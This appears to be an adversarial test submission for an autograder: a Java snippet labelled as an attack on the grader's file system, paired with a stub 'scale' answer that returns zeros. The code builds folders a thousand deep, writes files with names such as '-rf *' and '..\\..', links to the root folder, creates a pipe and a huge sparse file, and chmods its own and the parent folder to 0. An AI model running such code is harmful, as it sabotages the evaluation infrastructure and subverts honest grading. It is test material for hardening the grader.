// attack: makes folders a thousand deep, names of line breaks, links to everything, pipes and sparse files, and closes its own folder
// assignment: 00-start-here
// question: scale
// notebook: folders
// earns: 0
// reason: expected|The grader can't be reached
void litter() throws Exception {
    var here = java.nio.file.Path.of("").toAbsolutePath();
    var deep = here;
    for (int i = 0; i < 1000; i++) deep = java.nio.file.Files.createDirectory(deep.resolve("dd"));
    for (String name : new String[] {"two\nlines", "\u202e", "-rf *", "..\\..", " "}) {
        java.nio.file.Files.writeString(here.resolve(name), "x");
    }
    java.nio.file.Files.createSymbolicLink(here.resolve("root"), java.nio.file.Path.of("/"));
    java.nio.file.Files.createSymbolicLink(here.resolve("loop"), here);
    com.sun.jna.Function.getFunction("c", "mkfifo").invokeInt(new Object[] {"pipe", 0666});
    try (var file = new java.io.RandomAccessFile("sparse", "rw")) {
        file.setLength(1L << 50);
    } catch (java.io.IOException tooLarge) {
    }
    for (String folder : new String[] {here + "/dd", "" + here, "" + here.getParent()}) {
        com.sun.jna.Function.getFunction("c", "chmod").invokeInt(new Object[] {folder, 0});
    }
}
litter();
double[] scale(int[] pixels) {
    return new double[pixels.length];
}
